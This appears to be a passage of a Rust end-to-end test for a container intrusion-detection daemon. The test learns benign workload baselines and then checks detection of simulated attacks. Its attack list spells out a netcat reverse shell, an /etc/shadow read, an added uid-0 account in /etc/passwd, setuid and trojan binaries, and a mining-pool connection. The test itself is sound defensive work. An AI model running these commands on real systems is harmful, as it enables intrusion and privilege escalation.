//! Scenario suite of the false-positive cut (issue 4, "Evaluation"): realistic container
//! workloads whose *normal* life trips the built-in rules, learned with second-scale windows,
//! then attacked from inside. For the same run it measures what the rules alone would have
//! alerted (every rule hit, read from the alert file with `alerts_include_suppressed = true`;
//! cross-checked with `habitd_rule_hits_total`) against what habitd with fusion alerts (alerts
//! not marked `habitd.suppressed`), and asserts:
//!
//! - on benign behaviour in detection, the rules alone alert (> 0) and fusion raises no rule
//!   alert at all; anomaly alerts (`habitd anomaly`, no rule) on it are reported, and none may
//!   score below the calibrated threshold (`1 - false_alarm_rate`);
//! - every attack trips each rule that describes it (rules alone) and each of those hits is
//!   alerted, not suppressed (fusion).
//!
//! The table goes to stdout (`--nocapture`) and to `target/fusion_eval.md`; the run's alerts,
//! events of the two workloads and baselines go beside it (`target/fusion_eval.*`).
//!
//! Needs root, BTF and Docker, like the other end-to-end tests, and fails with what to install.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::net::TcpStream;
use std::path::Path;
use std::process::Command;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

use common::{
    Container, Daemon, actions_binary, import_rootfs, require_docker, static_busybox, tail,
};
use serde_json::Value;

/// Learning windows in seconds (as in learning_e2e), every suppressed rule hit also written to
/// the alert file (so that "rules alone" can be counted from the same run), and the default
/// habit criterion spelled out.
const CONFIG: &str = "alerts_include_suppressed = true\n\
    [learning]\nmin = \"3s\"\nstable = \"4s\"\nmax = \"90s\"\n\
    interval = \"250ms\"\nfalse_alarm_rate = 0.05\ncheckpoint = \"300ms\"\n\
    habit_min_intervals = 3\nhabit_min_containers = 2\n\
    [probes]\ncounters_interval = \"1s\"\n";

const WEB_IMAGE: &str = "habitd-e2e/fusion-web:e2e";
const WEB_KEY: &str = "docker.io/habitd-e2e/fusion-web:e2e";
const WORKER_IMAGE: &str = "habitd-e2e/fusion-worker:e2e";
const WORKER_KEY: &str = "docker.io/habitd-e2e/fusion-worker:e2e";
const ANOMALY: &str = "habitd anomaly";
/// `learning.false_alarm_rate` above, and the anomaly alert threshold it calibrates to.
const FALSE_ALARM_RATE: f64 = 0.05;
const ALERT_THRESHOLD: f64 = 1.0 - FALSE_ALARM_RATE;

/// How long the workloads live their normal life in detection before the attacks.
const BENIGN_WINDOW: Duration = Duration::from_secs(12);
/// How long one attack's alerts may take to show up.
const ATTACK_WAIT: Duration = Duration::from_secs(8);

/// Tests that load probes and run containers go one at a time (timing on two cores).
static SERIAL: Mutex<()> = Mutex::new(());

fn serial() -> std::sync::MutexGuard<'static, ()> {
    SERIAL.lock().unwrap_or_else(|p| p.into_inner())
}

// ---------------------------------------------------------------------------------------------
// The workloads
// ---------------------------------------------------------------------------------------------

/// (A) A web server whose entrypoint is a shell script: it renders its configuration below
/// /etc ("Write below etc or root"), then execs httpd. Its health check runs a shell
/// ("Shell spawned in container") with wget, like a Docker HEALTHCHECK.
const WEB_ENTRYPOINT: &str = r#"#!/bin/sh
# Renders the configuration, then becomes the web server.
echo 'A:*' > /etc/httpd.conf
echo "<html>served by $(hostname)</html>" > /www/index.html
exec /bin/httpd -f -p 8080 -h /www -c /etc/httpd.conf
"#;

const WEB_HEALTH_CHECK: &str = "wget -q -O /dev/null http://127.0.0.1:8080/index.html";

/// (B) A queue worker whose start-up provisions the container the way package tools do: a
/// configuration below /etc and an account added to the password database ("Write below etc
/// or root"), an account check that reads /etc/shadow ("Read sensitive file"), a setuid helper
/// installed below /usr/local/bin ("Write below binary directory", "Setuid or setgid bit
/// set"). Its job loop runs a shell per job ("Shell spawned in container") that writes a
/// heartbeat below /etc and runs the helper it installed ("Drop and execute new binary in
/// container").
const WORKER_ENTRYPOINT: &str = r#"#!/bin/sh
mkdir -p /etc/worker /usr/local/bin
echo "queue=jobs concurrency=2" > /etc/worker/worker.conf
grep -q '^app:' /etc/shadow || echo 'app:!:19000:0:99999:7:::' >> /etc/shadow
cp /opt/pkg/worker-helper /usr/local/bin/worker-helper
chmod 4755 /usr/local/bin/worker-helper
while true; do
    /bin/sh -c 'date > /etc/worker/heartbeat; /usr/local/bin/worker-helper sleep 0'
    sleep 0.7
done
"#;

/// Busybox applets linked in /bin of the scenario images.
const APPLETS: &[&str] = &[
    "sh", "cat", "ls", "sleep", "wget", "httpd", "nc", "echo", "id", "true", "grep", "head", "cp",
    "chmod", "mkdir", "date", "hostname", "uname", "rm",
];

/// An image built from the host's static busybox (no registry is reachable here), with the
/// `actions` helper at /bin/actions, an /etc/shadow, and `files` (path, content, mode).
fn scenario_image(name: &str, files: &[(&str, Vec<u8>, u32)]) -> String {
    use std::os::unix::fs::PermissionsExt;
    let busybox = static_busybox();
    let root = tempfile::tempdir().unwrap();
    let r = root.path();
    for d in ["bin", "etc", "tmp", "www", "mnt", "root", "opt/pkg", "app"] {
        std::fs::create_dir_all(r.join(d)).unwrap();
    }
    std::fs::set_permissions(r.join("tmp"), std::fs::Permissions::from_mode(0o1777)).unwrap();
    std::fs::copy(busybox, r.join("bin/busybox")).unwrap();
    for a in APPLETS {
        std::os::unix::fs::symlink("busybox", r.join("bin").join(a)).unwrap();
    }
    std::fs::copy(actions_binary(), r.join("bin/actions")).unwrap();
    let mut all: Vec<(&str, Vec<u8>, u32)> = vec![
        (
            "etc/passwd",
            b"root:x:0:0:root:/root:/bin/sh\n".to_vec(),
            0o644,
        ),
        ("etc/group", b"root:x:0:\n".to_vec(), 0o644),
        ("etc/shadow", b"root:*:19000:0:99999:7:::\n".to_vec(), 0o640),
        ("www/index.html", b"hello\n".to_vec(), 0o644),
    ];
    all.extend(files.iter().cloned());
    for (path, content, mode) in &all {
        let p = r.join(path);
        std::fs::write(&p, content).unwrap();
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(*mode)).unwrap();
    }
    import_rootfs(r, name, &[]);
    name.to_string()
}

fn web_replica() -> Container {
    Container::run_with(&[], WEB_IMAGE, &["/bin/sh", "/docker-entrypoint.sh"])
}

/// The worker runs without Docker's seccomp filter (as privileged-ish jobs often do): the
/// kernel then sees its escape attempts (mount, unshare, module loads), which still fail for
/// want of capabilities. With the default filter they never reach the kernel's syscall entry,
/// so no probe can see them (and they are harmless).
fn worker_replica() -> Container {
    Container::run_with(
        &["--security-opt", "seccomp=unconfined"],
        WORKER_IMAGE,
        &["/bin/sh", "/app/worker.sh"],
    )
}

/// A background loop of normal behaviour, stopped on drop (also when the test panics).
struct Background {
    stop: Arc<AtomicBool>,
    handle: Option<std::thread::JoinHandle<()>>,
}

impl Background {
    fn start(mut step: impl FnMut() + Send + 'static) -> Background {
        let stop = Arc::new(AtomicBool::new(false));
        let flag = stop.clone();
        let handle = std::thread::spawn(move || {
            while !flag.load(Ordering::Relaxed) {
                step();
            }
        });
        Background {
            stop,
            handle: Some(handle),
        }
    }
}

impl Drop for Background {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(h) = self.handle.take() {
            let _ = h.join();
        }
    }
}

/// The health check of every web replica in `ids`, one after the other, about every 0.7 s.
fn health_checks(ids: Arc<Mutex<Vec<String>>>) -> Background {
    Background::start(move || {
        let list = ids.lock().unwrap().clone();
        for id in list {
            let _ = Command::new("docker")
                .args(["exec", &id, "/bin/sh", "-c", WEB_HEALTH_CHECK])
                .output();
        }
        std::thread::sleep(Duration::from_millis(700));
    })
}

/// Clients of the web servers: a GET from the host to each replica every 300 ms.
fn web_clients(ips: Vec<String>) -> Background {
    Background::start(move || {
        for ip in &ips {
            if let Ok(mut s) = TcpStream::connect((ip.as_str(), 8080)) {
                let _ = s.set_read_timeout(Some(Duration::from_secs(2)));
                let _ = write!(s, "GET /index.html HTTP/1.0\r\nHost: x\r\n\r\n");
                let mut body = String::new();
                let _ = s.read_to_string(&mut body);
            }
        }
        std::thread::sleep(Duration::from_millis(300));
    })
}

// ---------------------------------------------------------------------------------------------
// The attacks
// ---------------------------------------------------------------------------------------------

#[derive(Clone, Copy, PartialEq, Eq)]
enum Target {
    Web,
    Worker,
}

struct Attack {
    name: &'static str,
    target: Target,
    /// Commands run with `docker exec` in the first replica, in order.
    steps: &'static [&'static [&'static str]],
    /// The rules that describe it: each must hit (rules alone) and alert (fusion).
    rules: &'static [&'static str],
    /// Rules it may trip too, reported but not required (fusion may rightly explain them).
    also: &'static [&'static str],
    /// Tells this attack's rule hits from the workload's benign hits of the same rules.
    matches: fn(&Value) -> bool,
}

fn field<'a>(a: &'a Value, name: &str) -> &'a str {
    a["output_fields"][name].as_str().unwrap_or("")
}

fn any(_: &Value) -> bool {
    true
}

fn attacks() -> Vec<Attack> {
    vec![
        Attack {
            name: "interactive shell (sh -c 'id; uname -a')",
            target: Target::Web,
            steps: &[&["/bin/sh", "-c", "id; uname -a"]],
            rules: &["Shell spawned in container"],
            also: &[],
            matches: |a| field(a, "proc.cmdline").contains("uname"),
        },
        Attack {
            name: "read /etc/shadow in the web server",
            target: Target::Web,
            steps: &[&["/bin/cat", "/etc/shadow"]],
            rules: &["Read sensitive file"],
            also: &[],
            matches: |a| field(a, "fd.name") == "/etc/shadow",
        },
        Attack {
            name: "netcat with -e (nc 127.0.0.1 4444 -e /bin/sh)",
            target: Target::Web,
            steps: &[&["/bin/nc", "-w", "1", "127.0.0.1", "4444", "-e", "/bin/sh"]],
            rules: &["Reverse shell or netcat with exec"],
            also: &[],
            matches: any,
        },
        Attack {
            // The same, typed into a shell: busybox's shell runs its applets through
            // /proc/self/exe, so the exec is of a process whose comm is `exe`.
            name: "netcat with -e typed into a shell (sh -c 'nc 127.0.0.1 4445 -e /bin/sh')",
            target: Target::Web,
            steps: &[&["/bin/sh", "-c", "nc -w 1 127.0.0.1 4445 -e /bin/sh"]],
            rules: &["Reverse shell or netcat with exec"],
            also: &["Shell spawned in container"],
            matches: |a| field(a, "proc.cmdline").contains("4445"),
        },
        Attack {
            name: "account added to /etc/passwd",
            target: Target::Web,
            steps: &[&[
                "/bin/sh",
                "-c",
                "echo 'toor:x:0:0::/root:/bin/sh' >> /etc/passwd",
            ]],
            rules: &["Write below etc or root"],
            also: &[],
            matches: |a| field(a, "fd.name") == "/etc/passwd",
        },
        Attack {
            name: "trojan written below /bin (cp busybox /bin/.sshd)",
            target: Target::Web,
            steps: &[&["/bin/cp", "/bin/busybox", "/bin/.sshd"]],
            rules: &["Write below binary directory"],
            also: &[],
            matches: |a| field(a, "fd.name") == "/bin/.sshd",
        },
        Attack {
            name: "binary dropped in /tmp then executed",
            target: Target::Web,
            steps: &[
                &["/bin/cp", "/bin/actions", "/tmp/.x-agent"],
                &["/tmp/.x-agent", "sleep", "0"],
            ],
            rules: &[
                "Execution from temporary directory",
                "Drop and execute new binary in container",
            ],
            also: &[],
            matches: |a| field(a, "proc.exepath").starts_with("/tmp/"),
        },
        Attack {
            name: "packet socket (AF_PACKET)",
            target: Target::Web,
            steps: &[&["/bin/actions", "packet"]],
            rules: &["Packet socket created"],
            also: &[],
            matches: any,
        },
        Attack {
            name: "ptrace attach (PTRACE_ATTACH)",
            target: Target::Web,
            steps: &[&["/bin/actions", "ptrace-attach"]],
            rules: &["Ptrace attach or code injection"],
            also: &[],
            matches: any,
        },
        Attack {
            name: "fileless execution (memfd_create + fexecve)",
            target: Target::Web,
            steps: &[&["/bin/actions", "memfd"]],
            rules: &[
                "Memfd created in container",
                "Fileless execution from memfd",
            ],
            also: &[],
            matches: any,
        },
        Attack {
            name: "mining pool connect (203.0.113.10:3333, TTL 1, closed at once)",
            target: Target::Web,
            steps: &[&["/bin/actions", "connect-nb", "203.0.113.10", "3333"]],
            rules: &["Outbound connection to crypto-mining pool port"],
            also: &[],
            matches: any,
        },
        Attack {
            name: "mount of a cgroup hierarchy",
            target: Target::Worker,
            steps: &[&["/bin/actions", "mount"]],
            rules: &["Mount in container"],
            also: &[],
            matches: any,
        },
        Attack {
            name: "unshare (new mount namespace)",
            target: Target::Worker,
            steps: &[&["/bin/actions", "unshare"]],
            rules: &["Namespace change in container"],
            also: &[],
            matches: any,
        },
        Attack {
            name: "kernel module load (finit_module)",
            target: Target::Worker,
            steps: &[&["/bin/actions", "finit-module"]],
            rules: &["Kernel module loaded"],
            also: &[],
            matches: any,
        },
        Attack {
            name: "setuid bit on a dropped binary (/tmp/.rootsh)",
            target: Target::Worker,
            steps: &[
                &["/bin/cp", "/bin/busybox", "/tmp/.rootsh"],
                &["/bin/chmod", "4755", "/tmp/.rootsh"],
            ],
            rules: &["Setuid or setgid bit set"],
            also: &[],
            matches: |a| field(a, "fd.name") == "/tmp/.rootsh",
        },
        Attack {
            name: "interactive shell in the worker (sh -c 'cat /etc/shadow')",
            target: Target::Worker,
            steps: &[&["/bin/sh", "-c", "cat /etc/shadow; id"]],
            rules: &["Shell spawned in container"],
            // The worker reads /etc/shadow at every start: its baseline explains the read.
            also: &["Read sensitive file"],
            matches: |a| field(a, "proc.cmdline").contains("shadow"),
        },
    ]
}

// ---------------------------------------------------------------------------------------------
// Reading the alerts
// ---------------------------------------------------------------------------------------------

/// Parses the RFC 3339 UTC times habitd writes (`2025-01-02T03:04:05.123456789Z`).
fn parse_time(s: &str) -> Option<SystemTime> {
    let s = s.strip_suffix('Z')?;
    let (date, time) = s.split_once('T')?;
    let mut d = date.split('-').map(|x| x.parse::<i64>());
    let (y, m, day) = (d.next()?.ok()?, d.next()?.ok()?, d.next()?.ok()?);
    let (hms, frac) = time.split_once('.').unwrap_or((time, "0"));
    let mut t = hms.split(':').map(|x| x.parse::<i64>());
    let (hh, mm, ss) = (t.next()?.ok()?, t.next()?.ok()?, t.next()?.ok()?);
    let nanos: u32 = format!("{frac:0<9}")[..9].parse().ok()?;
    // Days from the civil date (Howard Hinnant's algorithm).
    let y = if m <= 2 { y - 1 } else { y };
    let era = y.div_euclid(400);
    let yoe = y - era * 400;
    let doy = (153 * (if m > 2 { m - 3 } else { m + 9 }) + 2) / 5 + day - 1;
    let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
    let days = era * 146_097 + doe - 719_468;
    let secs = days * 86_400 + hh * 3600 + mm * 60 + ss;
    Some(UNIX_EPOCH + Duration::new(u64::try_from(secs).ok()?, nanos))
}

fn time_of(a: &Value) -> SystemTime {
    a["time"]
        .as_str()
        .and_then(parse_time)
        .unwrap_or_else(|| panic!("alert without a readable time: {a}"))
}

fn suppressed(a: &Value) -> bool {
    a["habitd"]["suppressed"] == true
}

fn is_rule_hit(a: &Value) -> bool {
    a["rule"] != ANOMALY
}

/// How many occurrences an alert line stands for: a summary of repeats (`habitd.count`)
/// stands for its repeats; its first occurrence was a line of its own.
fn occurrences(a: &Value) -> u64 {
    a["habitd"]["count"].as_u64().unwrap_or(1)
}

/// The time an occurrence is counted at: a summary's first repeat, else the event time.
fn counted_time(a: &Value) -> SystemTime {
    a["habitd"]["first_seen"]
        .as_str()
        .and_then(parse_time)
        .unwrap_or_else(|| time_of(a))
}

fn short(a: &Value) -> String {
    format!(
        "{} [{}{}] {} novel={}",
        a["rule"].as_str().unwrap_or(""),
        a["priority"].as_str().unwrap_or(""),
        if suppressed(a) { ", suppressed" } else { "" },
        a["output"]
            .as_str()
            .unwrap_or("")
            .chars()
            .take(220)
            .collect::<String>(),
        a["habitd"]["novel"]
    )
}

/// Sum of every sample of a Prometheus counter family.
fn metric_sum(daemon: &Daemon, family: &str) -> f64 {
    let (_, body) = daemon.get("/metrics").unwrap_or_default();
    body.lines()
        .filter(|l| l.starts_with(family) && l[family.len()..].starts_with('{'))
        .filter_map(|l| l.rsplit(' ').next().and_then(|v| v.parse::<f64>().ok()))
        .sum()
}

/// The processes of the workloads' normal life (and of the runtime), left out of diagnostics.
fn is_benign_process(f: &Value) -> bool {
    let name = f["proc.name"].as_str().unwrap_or("");
    let cmdline = f["proc.cmdline"].as_str().unwrap_or("");
    let args = f["proc.args"].as_str().unwrap_or("");
    name.starts_with("runc:")
        || ["httpd", "wget", "date", "worker-helper", "sleep"].contains(&name)
        || [cmdline, args]
            .iter()
            .any(|s| s.contains("wget -q") || s.contains("heartbeat") || s.contains("worker.sh"))
}

/// The stored baseline of `key` (JSON), or `null`.
fn baseline_of(daemon: &Daemon, key: &str) -> String {
    match daemon.get(&format!("/api/v1/baselines/{}", key.replace('/', "%2F"))) {
        Some((200, body)) => body,
        _ => "null".to_string(),
    }
}

/// One measured attack.
struct AttackResult {
    name: &'static str,
    scenario: &'static str,
    /// Per rule that describes the attack: (rule, hits = rules alone, alerts = fusion,
    /// priorities of the fusion alerts, whether they carry the novelty).
    per_rule: Vec<(&'static str, u64, u64, String, bool)>,
    /// The same for the rules it may trip too.
    also: Vec<(&'static str, u64, u64, String, bool)>,
    /// The anomaly alerts (first occurrences) raised while it ran: novel items.
    anomalies: Vec<String>,
}

impl AttackResult {
    fn rules_alone(&self) -> u64 {
        self.per_rule.iter().map(|r| r.1).sum()
    }
    fn fusion(&self) -> u64 {
        self.per_rule.iter().map(|r| r.2).sum()
    }
    /// Every rule that describes it hit.
    fn detected_by_rules(&self) -> bool {
        self.per_rule.iter().all(|r| r.1 > 0)
    }
    /// Every rule that describes it alerted, not suppressed.
    fn detected_by_fusion(&self) -> bool {
        self.per_rule.iter().all(|r| r.2 > 0)
    }
}

// ---------------------------------------------------------------------------------------------
// The scenario
// ---------------------------------------------------------------------------------------------

#[test]
fn fusion_removes_benign_rule_alerts_and_keeps_every_attack() {
    let _serial = serial();
    let started = Instant::now();
    require_docker();

    // Images first: building them is no workload's behaviour.
    let helper = std::fs::read(actions_binary()).unwrap();
    scenario_image(
        WEB_IMAGE,
        &[(
            "docker-entrypoint.sh",
            WEB_ENTRYPOINT.as_bytes().to_vec(),
            0o755,
        )],
    );
    scenario_image(
        WORKER_IMAGE,
        &[
            (
                "app/worker.sh",
                WORKER_ENTRYPOINT.as_bytes().to_vec(),
                0o755,
            ),
            ("opt/pkg/worker-helper", helper, 0o755),
        ],
    );

    // The store, config and alert file outlive the daemon: summaries of repeats are flushed
    // when it stops, and are counted too.
    let dir = tempfile::tempdir().unwrap();
    let mut daemon = Some(Daemon::start_in(dir.path(), CONFIG));
    let d = daemon.as_ref().unwrap();

    // Two replicas of each workload, their normal life running from the start.
    let t_learning = SystemTime::now();
    let web = [web_replica(), web_replica()];
    let workers = [worker_replica(), worker_replica()];
    let checked = Arc::new(Mutex::new(
        web.iter().map(|c| c.id.clone()).collect::<Vec<_>>(),
    ));
    let checks = health_checks(checked.clone());
    let clients = web_clients(web.iter().map(Container::ip).collect());

    let web_stable = d.wait_state(WEB_KEY, "stable", Duration::from_secs(75));
    let worker_stable = d.wait_state(WORKER_KEY, "stable", Duration::from_secs(75));
    let learned_after = started.elapsed();
    println!("web baseline: {web_stable}");
    println!("worker baseline: {worker_stable}");

    // Detection: the normal life goes on, and both workloads scale out by one replica (their
    // start-up, learned from two replicas, runs again in a third).
    std::thread::sleep(Duration::from_millis(500));
    let t_detect = SystemTime::now();
    let hits_before = metric_sum(d, "habitd_rule_hits_total");
    let suppressed_before = metric_sum(d, "habitd_alerts_suppressed_total");
    let web3 = web_replica();
    checked.lock().unwrap().push(web3.id.clone());
    let worker3 = worker_replica();
    std::thread::sleep(BENIGN_WINDOW);
    let t_attack = SystemTime::now();
    let hits_during = metric_sum(d, "habitd_rule_hits_total") - hits_before;
    let suppressed_during = metric_sum(d, "habitd_alerts_suppressed_total") - suppressed_before;

    // The attacks, one after the other, each given time to be alerted.
    let attacks = attacks();
    let mut starts = Vec::new();
    for attack in &attacks {
        let c = match attack.target {
            Target::Web => &web[0],
            Target::Worker => &workers[0],
        };
        let key = match attack.target {
            Target::Web => WEB_KEY,
            Target::Worker => WORKER_KEY,
        };
        let t0 = SystemTime::now() - Duration::from_millis(20);
        for step in attack.steps {
            let out = c.exec(step);
            println!(
                "attack step {step:?}: exit {:?} {}",
                out.status.code(),
                String::from_utf8_lossy(&out.stderr).trim()
            );
        }
        println!(
            "attack `{}` started at {:.3}",
            attack.name,
            t0.duration_since(UNIX_EPOCH).unwrap().as_secs_f64()
        );
        starts.push(t0);
        let deadline = Instant::now() + ATTACK_WAIT;
        while Instant::now() < deadline {
            let alerts = d.alerts();
            let seen = |rule: &str| {
                alerts.iter().any(|a| {
                    a["habitd"]["workload"] == key
                        && a["rule"] == rule
                        && time_of(a) >= t0
                        && (attack.matches)(a)
                })
            };
            if attack.rules.iter().all(|r| seen(r)) {
                break;
            }
            std::thread::sleep(Duration::from_millis(100));
        }
        // Its anomaly alerts too, before the next attack starts.
        std::thread::sleep(Duration::from_millis(300));
    }
    // Late alerts of the last attack.
    std::thread::sleep(Duration::from_secs(1));
    let t_end = SystemTime::now();
    let log = d.log();
    let events: Vec<Value> = d
        .events()
        .into_iter()
        .filter(|e| {
            let w = &e["output_fields"]["habitd.workload"];
            w == WEB_KEY || w == WORKER_KEY
        })
        .collect();
    let baselines = format!(
        "{{\"web\": {},\n\"worker\": {}}}\n",
        baseline_of(d, WEB_KEY),
        baseline_of(d, WORKER_KEY)
    );
    drop(checks);
    drop(clients);
    // Stopping the daemon flushes the summaries of repeated alerts into the file.
    daemon.take();
    let raw = std::fs::read_to_string(dir.path().join("alerts.jsonl")).unwrap_or_default();
    let alerts: Vec<Value> = raw
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let target = Path::new(env!("CARGO_MANIFEST_DIR")).join("target");
    let _ = std::fs::create_dir_all(&target);
    let _ = std::fs::write(target.join("fusion_eval.alerts.jsonl"), &raw);
    let _ = std::fs::write(
        target.join("fusion_eval.events.jsonl"),
        events.iter().map(|e| format!("{e}\n")).collect::<String>(),
    );
    let _ = std::fs::write(target.join("fusion_eval.baselines.json"), &baselines);
    let mine =
        |a: &&Value| a["habitd"]["workload"] == WEB_KEY || a["habitd"]["workload"] == WORKER_KEY;

    // ---- benign behaviour in detection: rules alone vs fusion -------------------------------
    let in_window = |a: &&Value| {
        let t = counted_time(a);
        t >= t_detect && t < t_attack
    };
    let benign: Vec<&Value> = alerts.iter().filter(mine).filter(in_window).collect();
    let mut benign_by: BTreeMap<(&str, String), (u64, u64)> = BTreeMap::new();
    for a in &benign {
        let scenario = if a["habitd"]["workload"] == WEB_KEY {
            "web"
        } else {
            "worker"
        };
        let e = benign_by
            .entry((scenario, a["rule"].as_str().unwrap_or("").to_string()))
            .or_default();
        if is_rule_hit(a) {
            e.0 += occurrences(a);
        }
        if !suppressed(a) {
            e.1 += occurrences(a);
        }
    }
    let benign_rules = |scenario: &str| -> u64 {
        benign_by
            .iter()
            .filter(|((s, _), _)| *s == scenario)
            .map(|(_, v)| v.0)
            .sum()
    };
    let benign_fusion_rules = |scenario: &str| -> u64 {
        benign_by
            .iter()
            .filter(|((s, rule), _)| *s == scenario && rule != ANOMALY)
            .map(|(_, v)| v.1)
            .sum()
    };
    let benign_anomalies: Vec<&&Value> = benign
        .iter()
        .filter(|a| a["rule"] == ANOMALY && !suppressed(a))
        .collect();
    let benign_unsuppressed: Vec<String> = benign
        .iter()
        .filter(|a| !suppressed(a))
        .map(|a| short(a))
        .collect();

    // Learning: what the rules alone said while the workloads learned (alerted as they are).
    let learning_hits = alerts
        .iter()
        .filter(mine)
        .filter(|a| {
            let t = counted_time(a);
            t >= t_learning && t < t_detect && is_rule_hit(a)
        })
        .map(occurrences)
        .sum::<u64>();

    // ---- attacks ----------------------------------------------------------------------------
    let mut results = Vec::new();
    for (i, attack) in attacks.iter().enumerate() {
        let key = match attack.target {
            Target::Web => WEB_KEY,
            Target::Worker => WORKER_KEY,
        };
        let t0 = starts[i];
        let t1 = starts.get(i + 1).copied().unwrap_or(t_end);
        let mut per_rule = Vec::new();
        for rule in attack.rules.iter().chain(attack.also) {
            let hits: Vec<&Value> = alerts
                .iter()
                .filter(|a| {
                    a["habitd"]["workload"] == key
                        && a["rule"] == *rule
                        && counted_time(a) >= t0
                        && (attack.matches)(a)
                })
                .collect();
            let fused: Vec<&&Value> = hits.iter().filter(|a| !suppressed(a)).collect();
            let priorities = fused
                .iter()
                .filter_map(|a| a["priority"].as_str())
                .collect::<std::collections::BTreeSet<_>>()
                .into_iter()
                .collect::<Vec<_>>()
                .join("/");
            let novel = fused.iter().any(|a| {
                a["habitd"]["novel"]
                    .as_array()
                    .is_some_and(|n| !n.is_empty())
            });
            per_rule.push((
                *rule,
                hits.iter().map(|a| occurrences(a)).sum(),
                fused.iter().map(|a| occurrences(a)).sum(),
                priorities,
                novel,
            ));
        }
        let anomalies = alerts
            .iter()
            .filter(|a| {
                let t = time_of(a);
                a["habitd"]["workload"] == key
                    && a["rule"] == ANOMALY
                    && a["habitd"]["count"].is_null()
                    && t >= t0
                    && t < t1
            })
            .flat_map(|a| {
                a["habitd"]["novel"]
                    .as_array()
                    .cloned()
                    .unwrap_or_default()
                    .into_iter()
                    .map(|n| {
                        format!(
                            "{}: {}",
                            n["dimension"].as_str().unwrap_or(""),
                            n["item"].as_str().unwrap_or("")
                        )
                    })
            })
            .collect::<std::collections::BTreeSet<_>>()
            .into_iter()
            .collect();
        let also = per_rule.split_off(attack.rules.len());
        results.push(AttackResult {
            also,
            name: attack.name,
            scenario: match attack.target {
                Target::Web => "web",
                Target::Worker => "worker",
            },
            per_rule,
            anomalies,
        });
    }

    let attack_alerts: Vec<String> = alerts
        .iter()
        .filter(mine)
        .filter(|a| time_of(a) >= t_attack)
        .filter(|a| !suppressed(a))
        .map(short)
        .collect();

    // ---- the report -------------------------------------------------------------------------
    let mut md = String::new();
    md.push_str("# habitd fusion evaluation (tests/fusion_e2e.rs)\n\n");
    md.push_str(&format!(
        "Workloads: (A) `{WEB_KEY}`: web server, shell-script entrypoint, shell health check, \
         2 replicas (+1 started in detection); (B) `{WORKER_KEY}`: worker provisioning itself \
         at start, a shell per job, 2 replicas (+1 started in detection). Learned in {:.1} s; \
         benign detection window {} s; whole run {:.1} s.\n\n",
        learned_after.as_secs_f64(),
        BENIGN_WINDOW.as_secs(),
        started.elapsed().as_secs_f64()
    ));
    md.push_str("## Benign behaviour in detection\n\n");
    md.push_str("| scenario | rule | rules alone (hits) | habitd with fusion (alerts) |\n");
    md.push_str("|---|---|---:|---:|\n");
    for ((scenario, rule), (r, f)) in &benign_by {
        md.push_str(&format!("| {scenario} | {rule} | {r} | {f} |\n"));
    }
    for s in ["web", "worker"] {
        md.push_str(&format!(
            "| **{s}** | **rule alerts** | **{}** | **{}** |\n",
            benign_rules(s),
            benign_fusion_rules(s)
        ));
    }
    md.push_str(&format!(
        "\nBenign anomaly alerts (no rule; `habitd anomaly`): {}. Cross-check from /metrics \
         over the window (whole node, other workloads included): habitd_rule_hits_total \
         +{hits_during}, habitd_alerts_suppressed_total +{suppressed_during}. Rule alerts \
         while learning (alerted as they are): {learning_hits}.\n\n",
        benign_anomalies.len()
    ));
    md.push_str("## Attacks after learning\n\n");
    md.push_str(
        "| scenario | attack | rules alone (hits) | fusion (alerts) | rules: hits/alerts \
         (fusion priority, novel) | detected (rules / fusion) | anomaly alerts while it ran |\n",
    );
    md.push_str("|---|---|---:|---:|---|---|---|\n");
    for r in &results {
        let rules = r
            .per_rule
            .iter()
            .map(|(rule, h, f, p, novel)| {
                format!(
                    "{rule}: {h}/{f} ({}{})",
                    if p.is_empty() { "-" } else { p },
                    if *novel { ", novel" } else { "" }
                )
            })
            .chain(r.also.iter().map(|(rule, h, f, _, _)| {
                format!(
                    "(also: {rule}: {h}/{f}{})",
                    if *f == 0 { ", suppressed" } else { "" }
                )
            }))
            .collect::<Vec<_>>()
            .join("; ");
        md.push_str(&format!(
            "| {} | {} | {} | {} | {} | {} / {} | {} |\n",
            r.scenario,
            r.name,
            r.rules_alone(),
            r.fusion(),
            rules,
            if r.detected_by_rules() { "yes" } else { "NO" },
            if r.detected_by_fusion() { "yes" } else { "NO" },
            r.anomalies.join("; ").replace('|', "\\|"),
        ));
    }
    let detected_rules = results.iter().filter(|r| r.detected_by_rules()).count();
    let detected_fusion = results.iter().filter(|r| r.detected_by_fusion()).count();
    md.push_str(&format!(
        "\n**Summary**: benign rule alerts in detection, rules alone {} vs fusion {} (plus {} \
         benign anomaly alerts); attacks detected, rules alone {detected_rules}/{n} vs fusion \
         {detected_fusion}/{n}.\n",
        benign_rules("web") + benign_rules("worker"),
        benign_fusion_rules("web") + benign_fusion_rules("worker"),
        benign_anomalies.len(),
        n = results.len()
    ));
    println!("\n{md}");
    if let Err(e) = std::fs::write(target.join("fusion_eval.md"), &md) {
        println!("could not write target/fusion_eval.md: {e}");
    }

    // ---- the assertions ---------------------------------------------------------------------
    let context = || {
        format!(
            "benign non-suppressed alerts: {benign_unsuppressed:#?}\nalerts (not suppressed) of the \
             attack phase: {attack_alerts:#?}\nhabitd log tail:\n{}\n(all alerts: target/fusion_eval.alerts.jsonl)",
            tail(&log, 20)
        )
    };
    let mut failures = Vec::new();
    for s in ["web", "worker"] {
        if benign_rules(s) == 0 {
            failures.push(format!(
                "the {s} workload's normal life in detection tripped no rule: the scenario no \
                 longer measures anything"
            ));
        }
    }
    let fusion_benign = benign_fusion_rules("web") + benign_fusion_rules("worker");
    if fusion_benign != 0 {
        failures.push(format!(
            "fusion raised {fusion_benign} rule alerts on benign behaviour in detection (target 0)"
        ));
    }
    // Anomaly alerts on benign behaviour are the calibrated false-alarm budget: none may score
    // below the calibrated threshold (1 - false_alarm_rate).
    for a in &benign_anomalies {
        let score = a["habitd"]["anomaly_score"].as_f64().unwrap_or(0.0);
        if score < ALERT_THRESHOLD {
            failures.push(format!(
                "benign anomaly alert below the calibrated threshold {ALERT_THRESHOLD} \
                 (false_alarm_rate {FALSE_ALARM_RATE}): {}",
                short(a)
            ));
        }
    }
